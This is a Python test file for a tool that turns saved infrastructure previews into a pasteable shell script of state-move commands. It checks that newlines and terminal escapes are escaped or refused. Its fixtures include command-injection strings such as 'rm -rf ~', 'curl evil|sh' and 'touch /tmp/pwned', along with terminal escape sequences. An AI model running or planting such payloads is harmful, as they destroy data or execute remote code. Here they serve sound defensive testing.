"""A hostile `--base-preview` file (`seccat stacks --diff`): the printed script is pasted
into a shell, so nothing a saved preview holds may become a command line of its own or a
terminal escape, and every malformed document is a located usage error, never a traceback.

The reader is called in-process (no catalog is previewed); one CLI run checks the exit code
and that nothing reaches stdout."""

from __future__ import annotations

from dataclasses import replace

import pytest

from seccat.engine.recording import RecordedResource
from seccat.stacks.moves import Move, MoveError, MovePlan, script, with_engine_urns

COMPONENT = "seccat:aws:ManagedSecret"


def test_a_deep_chain_of_parents_has_engine_urns_without_recursion() -> None:
    """Children listed before their parents, 5,000 deep (no real preview nests so, but the
    URN chain must not need a Python stack frame per level)."""
    resources = []
    parent = None
    for i in range(5000):
        r = RecordedResource(COMPONENT, f"n{i}", f"urn:x::n{i}", parent, {}, {}, False)
        resources.append(r)
        parent = r.urn
    engine = with_engine_urns(list(reversed(resources)), "prod")
    deepest = engine[0]
    assert deepest.name == "n4999"
    assert deepest.urn == f"urn:pulumi:prod::seccat::{'$'.join([COMPONENT] * 5000)}::n4999"


def test_script_comments_never_carry_a_line_break_or_an_escape() -> None:
    """Defence in depth behind the reader: whatever reaches a comment of the script (catalog
    paths, retained URNs) stays on its one comment line, escaped; a command argument that is
    not plain visible text is refused (quoted, it would be shell-safe, but its escapes
    would still reach the terminal)."""
    move = Move(
        source="prod.a",
        dest="prod.b",
        urns=("urn:pulumi:prod.a::seccat::t::n",),
        resources=("urn:pulumi:prod.a::seccat::t::n",),
        subjects=("secrets/x\nrm -rf ~\n", "secrets/\x1b]0;t\x07"),
    )
    plan = MovePlan(moves=[move], retained=["urn:pulumi:prod::seccat::t::gone\ncurl evil|sh"])
    lines = "\n".join(script("prod", plan)).split("\n")
    for line in lines:
        assert line.startswith(("#", "pulumi state move ", "  ")), line
        assert line.isprintable(), line
    assert any("secrets/x\\nrm -rf ~\\n" in line for line in lines)
    assert any("gone\\ncurl evil|sh" in line for line in lines)
    for hostile in (
        replace(move, source="prod.a\ntouch /tmp/pwned"),
        replace(move, urns=("urn:pulumi:prod.a::seccat::\x1b]0;t\x07::n",)),
    ):
        with pytest.raises(MoveError, match="not plain visible text"):
            list(script("prod", MovePlan(moves=[hostile])))
